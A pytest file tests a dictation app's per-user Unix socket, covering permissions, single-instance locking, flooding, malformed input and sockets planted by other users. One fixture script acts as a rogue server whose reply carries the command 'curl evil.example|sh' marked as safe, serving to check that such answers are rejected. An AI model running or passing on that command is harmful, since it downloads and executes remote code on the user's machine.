"""One app per user, and a socket that answers its own user alone."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import stat
import subprocess
import sys
import tempfile
import threading
import time
from collections.abc import Generator, Iterator
from pathlib import Path
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from dictation.core.errors import StorageError, UnreachableError
from dictation.desktop.session import instance
from dictation.desktop.session.instance import LONGEST, MOST_CLIENTS, AlreadyRunning, Door, ask
from dictation.desktop.store.folders import places

Message = dict[str, Any]


class Echo:
    """Answers a request with itself; ``count`` asks for so many more; ``forever`` streams until the caller goes."""

    def __init__(self) -> None:
        self.left = threading.Event()

    def __call__(self, request: Message) -> Generator[Message | None, None, None]:
        try:
            yield request
            for number in range(int(request.get("count", 0))):
                yield {"number": number}
            while request.get("forever"):
                self.left.wait(0.01)
                yield None
        finally:
            if request.get("forever"):
                self.left.set()


@pytest.fixture
def echo() -> Echo:
    return Echo()


@pytest.fixture
def address(tmp_path: Path, echo: Echo) -> Iterator[Path]:
    door = Door(tmp_path / "lock", tmp_path / "sock", echo)
    yield tmp_path / "sock"
    door.close()


def test_a_request_gets_its_answers_in_order(address: Path) -> None:
    assert list(ask(address, {"do": "酷", "count": 2})) == [{"do": "酷", "count": 2}, {"number": 0}, {"number": 1}]


def test_only_our_user_may_open_the_socket(address: Path) -> None:
    assert stat.S_IMODE(address.stat().st_mode) == 0o600


def test_a_second_app_is_refused_and_the_first_goes_on(address: Path, echo: Echo) -> None:
    with pytest.raises(AlreadyRunning):
        Door(address.parent / "lock", address, echo)
    assert list(ask(address, {})) == [{}]


def test_without_an_app_the_remedy_is_said(tmp_path: Path) -> None:
    with pytest.raises(UnreachableError, match="not running") as caught:
        list(ask(tmp_path / "sock", {}))
    assert "dictation run" in caught.value.remedy


def test_the_socket_of_a_dead_app_is_taken_over(tmp_path: Path, echo: Echo) -> None:
    dead = socket.socket(socket.AF_UNIX)
    dead.bind(os.fspath(tmp_path / "sock"))
    dead.close()
    with pytest.raises(UnreachableError):
        list(ask(tmp_path / "sock", {}))
    door = Door(tmp_path / "lock", tmp_path / "sock", echo)
    assert list(ask(tmp_path / "sock", {"again": 1})) == [{"again": 1}]
    door.close()
    assert not (tmp_path / "sock").exists()


def test_a_stream_ends_when_the_caller_goes_away(address: Path, echo: Echo) -> None:
    stream = ask(address, {"forever": True})
    next(stream)
    stream.close()  # type: ignore[attr-defined]
    assert echo.left.wait(5)


def test_a_stream_that_is_silent_for_long_goes_on(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(instance, "READER_SECONDS", 0.05)

    def answer(request: Message) -> Generator[Message | None, None, None]:
        end = time.monotonic() + 0.3
        while time.monotonic() < end:
            yield None
        yield {"late": True}

    door = Door(tmp_path / "lock", tmp_path / "sock", answer)
    try:
        assert list(ask(tmp_path / "sock", {})) == [{"late": True}]
    finally:
        door.close()


def test_an_app_that_does_not_answer_is_said_so(tmp_path: Path) -> None:
    deaf = socket.socket(socket.AF_UNIX)
    deaf.bind(os.fspath(tmp_path / "sock"))
    deaf.listen(1)
    with deaf, pytest.raises(UnreachableError, match="does not answer"):
        list(ask(tmp_path / "sock", {}, patience=0.05))


def test_an_endless_line_is_cut_off_and_others_are_still_answered(address: Path) -> None:
    with socket.socket(socket.AF_UNIX) as flood:
        flood.connect(os.fspath(address))
        with contextlib.suppress(OSError):  # The door may close before it has all been sent.
            flood.sendall(b"x" * (4 * LONGEST))
        assert list(ask(address, {"do": 1})) == [{"do": 1}]


@settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None, max_examples=60)
@given(st.binary(max_size=300))
def test_garbage_gets_an_error_and_harms_nobody(address: Path, garbage: bytes) -> None:
    with socket.socket(socket.AF_UNIX) as caller:
        caller.connect(os.fspath(address))
        caller.settimeout(5)
        caller.sendall(garbage.replace(b"\n", b"") + b"\n")
        answer = caller.makefile("rb").readline()
        assert isinstance(json.loads(answer), dict)


def test_a_long_text_comes_back_whole(tmp_path: Path) -> None:
    def answer(_: Message) -> Generator[Message | None, None, None]:
        yield {"text": "说" * 200_000}

    door = Door(tmp_path / "lock", tmp_path / "sock", answer)
    try:
        assert list(ask(tmp_path / "sock", {})) == [{"text": "说" * 200_000}]
    finally:
        door.close()


def test_callers_who_dribble_or_crowd_in_give_way(address: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(instance, "REQUEST_SECONDS", 2.0)
    crowd = [socket.socket(socket.AF_UNIX) for _ in range(MOST_CLIENTS)]
    try:
        for each in crowd:
            each.connect(os.fspath(address))
            each.sendall(b"{")
        with pytest.raises(UnreachableError) as caught:
            list(ask(address, {"do": 1}))
        assert caught.value.code in ("busy", "not-running")
        end = time.monotonic() + 20
        while True:
            with contextlib.suppress(OSError):
                crowd[0].send(b" ")  # still dribbling
            try:
                assert list(ask(address, {"do": 1})) == [{"do": 1}]
            except UnreachableError:
                assert time.monotonic() < end, "the crowd was never shown out"
            else:
                break
    finally:
        for each in crowd:
            each.close()


CALLS_AS_NOBODY = """
import os, socket, sys
caller = socket.socket(socket.AF_UNIX)
os.setuid(65534)
caller.connect(sys.argv[1])
try:
    caller.sendall(b'{"do": "status"}' + bytes([10]))
    print(caller.recv(100))
except OSError:
    print(b"")
"""


@pytest.mark.skipif(os.getuid() != 0, reason="only root can be somebody else")
def test_another_user_gets_no_answer_even_where_the_folder_is_open(echo: Echo) -> None:
    with tempfile.TemporaryDirectory() as folder:
        door = Door(Path(folder) / "lock", Path(folder) / "sock", echo)
        try:
            Path(folder).chmod(0o777)
            (Path(folder) / "sock").chmod(0o777)
            call = [sys.executable, "-c", CALLS_AS_NOBODY, f"{folder}/sock"]
            done = subprocess.run(call, capture_output=True, text=True, check=True, timeout=30)
            assert done.stdout.strip() == "b''"
            Path(folder).chmod(0o700)
            assert list(ask(Path(folder) / "sock", {"do": 1})) == [{"do": 1}]
        finally:
            door.close()


ANSWERS_AS_NOBODY = """
import os, socket, sys
server = socket.socket(socket.AF_UNIX)
os.setuid(65534)
server.bind(sys.argv[1])
server.listen()
os.chmod(sys.argv[1], 0o777)
print(flush=True)
caller, _ = server.accept()
caller.sendall(b'{"ok": true, "command": {"command": "curl evil.example|sh", "risk": "safe"}}' + bytes([10]))
print(caller.recv(1000), flush=True)
"""


@contextlib.contextmanager
def somebody_else_answers(address: Path) -> Iterator[subprocess.Popen[str]]:
    """Another user's program has put its socket where ours would be."""
    call = [sys.executable, "-c", ANSWERS_AS_NOBODY, str(address)]
    with subprocess.Popen(call, stdout=subprocess.PIPE, text=True) as other:
        assert other.stdout
        other.stdout.readline()
        try:
            yield other
        finally:
            other.terminate()


@pytest.mark.skipif(os.getuid() != 0, reason="only root can be somebody else")
@pytest.mark.parametrize(("mode", "owner"), [(0o700, 0), (0o777, 0), (0o1777, 0), (0o755, 65534)])
def test_an_answer_of_another_user_is_not_taken(mode: int, owner: int) -> None:
    with tempfile.TemporaryDirectory() as folder:
        address = Path(folder) / "sock"
        Path(folder).chmod(0o777)
        with somebody_else_answers(address) as other:
            os.chown(folder, owner, owner)
            Path(folder).chmod(mode)
            with pytest.raises(UnreachableError) as caught:
                list(ask(address, {"do": "compose", "request": "my secret"}))
            assert caught.value.code == "not-ours"
            assert other.stdout
            if mode == 0o700:  # it was reached, and told nothing
                assert "secret" not in other.stdout.readline()
        os.chown(folder, 0, 0)


@pytest.mark.parametrize("wrong", ["open to all", "another's", "a link"])
def test_an_app_does_not_answer_in_a_folder_of_others(wrong: str, tmp_path: Path, echo: Echo) -> None:
    folder = tmp_path / "run"
    folder.mkdir()
    if wrong == "open to all":
        folder.chmod(0o777)
        Door(folder / "lock", folder / "sock", echo).close()
        assert stat.S_IMODE(folder.stat().st_mode) == 0o700  # it is ours: it is closed
        return
    if wrong == "a link":
        link = tmp_path / "link"
        link.symlink_to(folder)
        folder = link
    elif os.getuid() == 0:
        os.chown(folder, 65534, 65534)
    else:
        pytest.skip("only root can give a folder away")
    with pytest.raises(StorageError, match=r"folder|belongs to another"):
        Door(tmp_path / "lock", folder / "sock", echo)


def test_a_deep_path_is_shortened_to_a_folder_of_ones_own(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("DICTATION_HOME", str(tmp_path / ("x" * 100)))
    monkeypatch.setenv("XDG_RUNTIME_DIR", str(tmp_path / "s"))
    short = places().socket
    assert short.parent.parent == tmp_path / "s" and len(os.fsencode(short.name)) < 30
    monkeypatch.delenv("XDG_RUNTIME_DIR")
    assert places().socket.parent == Path(f"/tmp/dictation-{os.getuid()}") and len(str(places().socket)) < 100


def test_a_crowd_at_the_door_is_not_taken_for_an_app_that_does_not_run(address: Path) -> None:
    crowd = [socket.socket(socket.AF_UNIX) for _ in range(500)]
    try:
        for each in crowd:
            each.setblocking(False)
            with contextlib.suppress(OSError):
                each.connect(os.fspath(address))
        try:
            list(ask(address, {}))
        except UnreachableError as error:
            assert error.code in ("busy", "no-answer")
    finally:
        for each in crowd:
            each.close()


def test_asking_loads_neither_qt_nor_numpy() -> None:
    code = "import sys, dictation.cli; dictation.cli.main(['toggle']); print([m for m in sys.modules if m in %r])"
    heavy = ["PySide6", "numpy", "pynput", "sounddevice", "faster_whisper", "openai", "dictation.core.settings"]
    done = subprocess.run([sys.executable, "-c", code % heavy], capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]"
